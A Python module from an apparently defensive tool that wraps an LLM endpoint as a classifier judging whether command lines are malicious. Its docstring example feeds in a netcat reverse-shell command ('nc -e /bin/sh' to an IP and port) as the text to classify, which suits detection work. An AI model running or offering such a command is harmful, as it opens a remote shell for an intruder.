"""An expert that is a model name behind an OpenAI-compatible endpoint: vLLM with many LoRA adapters is meant.

It answers like any other expert: one of its labels with a probability, or an abstention that says why. A label that
the model did not give is never made up.

    config = Endpoint("triage", "http://127.0.0.1:8000/v1", "command@3f2a9c1b", ("malicious", "benign"),
                      "Is this command line malicious?")
    with EndpointExpert(config) as expert:
        expert.ask(["nc -e /bin/sh 10.0.0.1 4444"])[0].best
"""

import time
from collections import Counter
from collections.abc import Sequence
from concurrent.futures import ThreadPoolExecutor
from dataclasses import replace
from threading import Condition, Lock
from typing import Any, Final

from watchfloor.base.errors import WatchfloorError
from watchfloor.base.judgements import Judgement
from watchfloor.experts import endpoint_answers, endpoint_prompt
from watchfloor.experts.endpoint_config import Budget, Endpoint
from watchfloor.experts.endpoint_errors import AnswerError, DeclinedError, UnansweredError
from watchfloor.experts.endpoint_habits import Form, habits_of
from watchfloor.experts.endpoint_wire import Patience, Purse, Wire

__all__ = ["Budget", "Endpoint", "EndpointExpert"]

#: Texts in a row without any answer after which a server is taken for dead, and the rest is not tried.
_DEAD_AFTER: Final = 3
#: Alternatives asked for at each token: the most that vLLM and OpenAI give unless told otherwise.
_TOP_LOGPROBS: Final = 20
#: A best label that is likelier than chance by less than this is a guess.
_NO_DIFFERENCE: Final = 1e-6
#: Letters a token has at least on average, to guess the tokens of a server that does not count them.
_LETTERS_A_TOKEN: Final = 3


class EndpointExpert:
    """Asks one model of one server. Several threads may ask at once, and the model may be swapped meanwhile."""

    def __init__(self, endpoint: Endpoint) -> None:
        self._endpoint = endpoint
        self._wire = Wire(
            endpoint.url, api_key=endpoint.key, connections=endpoint.concurrency, purse=Purse(endpoint.budget),
            patience=Patience(endpoint.timeout_s, endpoint.retries, endpoint.backoff_s),
        )  # fmt: skip
        self._asking: Counter[str] = Counter()
        self._changed = Condition()

    def __enter__(self) -> "EndpointExpert":
        return self

    def __exit__(self, *_: object) -> None:
        self.close()

    @property
    def name(self) -> str:
        """The expert's name, as ``watchfloor ask`` takes it."""
        return self._endpoint.expert

    @property
    def endpoint(self) -> Endpoint:
        """What is asked now, and where."""
        return self._endpoint

    @property
    def spent(self) -> tuple[int, int]:
        """Requests and tokens of this run so far."""
        return self._wire.purse.requests, self._wire.purse.tokens

    def begin_run(self) -> None:
        """Begin a new run: the budget is whole again."""
        self._wire.purse = Purse(self._endpoint.budget)

    def close(self) -> None:
        """Close the connections; no answer may be under way."""
        self._wire.close()

    def point_to(self, model: str) -> str:
        """Ask another model from the next ``ask`` on, and say which was asked until now."""
        with self._changed:
            before = self._endpoint.model
            self._endpoint = replace(self._endpoint, model=model, version="", answers_as="")
        return before

    def drain(self, model: str, *, timeout_s: float) -> bool:
        """Wait until no ``ask`` that began with this model is under way; False where the time was too short."""
        with self._changed:
            return self._changed.wait_for(lambda: not self._asking[model], timeout_s)

    def ask(self, texts: Sequence[str]) -> list[Judgement]:
        """One judgement a text, in order, all by the model that was named when the call began.

        ``facts``: ``score_from`` is ``logprobs`` (a probability) or ``said`` (what the model says of itself);
        ``mass`` is what the model gave all labels together before any was chosen. Where the endpoint fails midway,
        what was answered stays and the rest abstains with the reason.

        Raises:
            UnreachableError, UnauthorisedError, UnknownModelError, BudgetError: and no text was answered.
        """
        with self._changed:
            endpoint = self._endpoint
            self._asking[endpoint.model] += 1
        try:
            return _Call(endpoint, self._wire).judge(texts)
        finally:
            with self._changed:
                self._asking[endpoint.model] -= 1
                self._changed.notify_all()


class _Call:
    """One call of ``ask``: its texts are asked side by side until the endpoint itself fails."""

    def __init__(self, endpoint: Endpoint, wire: Wire) -> None:
        self._endpoint = endpoint
        self._wire = wire
        self._habits = habits_of(endpoint.url)
        self._failed: WatchfloorError | None = None
        self._stopped = False
        self._answered = 0
        self._silent = 0
        self._lock = Lock()

    def judge(self, texts: Sequence[str]) -> list[Judgement]:
        distinct = list(dict.fromkeys(texts))
        found: dict[str, Judgement] = {}
        # What a server does not take is found out with one text, not with as many as are asked at once.
        while distinct and not self._habits.proven and not self._stopped:
            text = distinct.pop(0)
            found[text] = self._one(text)
        if len(distinct) == 1:
            found[distinct[0]] = self._one(distinct[0])
        elif distinct:
            with ThreadPoolExecutor(min(self._endpoint.concurrency, len(distinct)), "watchfloor-endpoint") as pool:
                try:
                    found |= zip(distinct, pool.map(self._one, distinct), strict=True)
                finally:
                    self._stopped = True
        if self._failed is not None and not self._answered:
            raise self._failed
        return [found[text] for text in texts]

    def _one(self, text: str) -> Judgement:
        if not text.strip():
            return self._abstained("there is nothing to read")
        if len(text) > self._endpoint.max_characters:
            return self._abstained(f"longer than it is asked about: {len(text):,} characters; split it")
        if self._stopped:
            return self._abstained(f"not asked: {self._failed.message if self._failed else 'the run ended'}")
        try:
            judged = self._judged(text)
        except DeclinedError as error:
            self._heard()
            return self._abstained(f"the server refuses this text: {error.reason or error.message}")
        except UnansweredError as error:
            self._missed(error)
            return self._abstained(error.message)
        except WatchfloorError as error:
            # Not this text's fault: any other would fail in the same way.
            with self._lock:
                self._failed, self._stopped = error, True
            return self._abstained(error.message)
        self._heard()
        return judged

    def _judged(self, text: str) -> Judgement:
        deadline = time.monotonic() + self._endpoint.deadline_s
        reason, tries = "", 0
        while tries <= self._endpoint.answer_retries:
            form = self._habits.form
            try:
                reply, form = self._asked(text, form, reason, deadline)
                return self._judgement(self._read(reply, form))
            except endpoint_answers.NoLogprobsError:
                self._habits.learn(Form(form.schema, logprobs=False))
            except AnswerError as error:
                reason, tries = error.message, tries + 1
            if time.monotonic() >= deadline:
                reason = f"{reason or 'no answer'} (and {self._endpoint.deadline_s:g} s are over)"
                break
        return self._abstained(f"no valid answer, asked {max(tries, 1)} times: {reason}")

    def _read(self, reply: dict[str, Any], form: Form) -> endpoint_answers.Answer:
        endpoint = self._endpoint
        named = endpoint.answers_as or endpoint.model
        return endpoint_answers.read(reply, endpoint.labels, named, scored=not form.logprobs)

    def _asked(self, text: str, form: Form, reason: str, deadline: float) -> tuple[dict[str, Any], Form]:
        """The server's reply, and the form of question it took: plainer than wanted where it refused."""
        first: DeclinedError | None = None
        while True:
            body = self._body(text, form, reason)
            try:
                reply = self._wire.post("chat/completions", body, deadline=deadline)
            except DeclinedError as error:
                first, plainer = first or error, form.plainer(error.reason)
                if plainer is None:
                    raise first from None
                form = plainer
                continue
            letters = sum(len(each["content"]) for each in body["messages"])
            guess = letters // _LETTERS_A_TOKEN + self._endpoint.max_tokens
            self._wire.purse.pay(endpoint_answers.tokens_spent(reply, guess))
            self._habits.learn(form)
            return reply, form

    def _body(self, text: str, form: Form, reason: str) -> dict[str, Any]:
        endpoint, scored = self._endpoint, not form.logprobs
        asked = endpoint_prompt.messages(endpoint.instruction, endpoint.labels, text, scored=scored, reason=reason)
        body: dict[str, Any] = {"model": endpoint.model, "messages": asked, "temperature": 0,
                                "max_tokens": endpoint.max_tokens}  # fmt: skip
        if form.schema:
            body["response_format"] = endpoint_prompt.response_format(endpoint.labels, scored=scored)
        if form.logprobs:
            body |= {"logprobs": True, "top_logprobs": _TOP_LOGPROBS}
        return body

    def _judgement(self, answer: endpoint_answers.Answer) -> Judgement:
        endpoint, best = self._endpoint, answer.labels[0]
        facts: dict[str, Any] = {"score_from": answer.score_from}
        if answer.mass >= 0:
            facts["mass"] = round(answer.mass, 6)
        why = (
            f"unsure: {best.score:.2f} is below {endpoint.least_score:.2f}" if best.score < endpoint.least_score else ""
        )
        if best.score < 1 / len(endpoint.labels) + _NO_DIFFERENCE:
            why = "it does not tell the labels apart"
        return Judgement(endpoint.expert, answer.labels, endpoint.version or endpoint.model, why, facts)

    def _abstained(self, why: str) -> Judgement:
        endpoint = self._endpoint
        return Judgement(endpoint.expert, (), endpoint.version or endpoint.model, why)

    def _heard(self) -> None:
        with self._lock:
            self._answered, self._silent = self._answered + 1, 0

    def _missed(self, error: UnansweredError) -> None:
        with self._lock:
            self._silent += 1
            self._failed = error
            self._stopped = self._stopped or self._silent >= _DEAD_AFTER
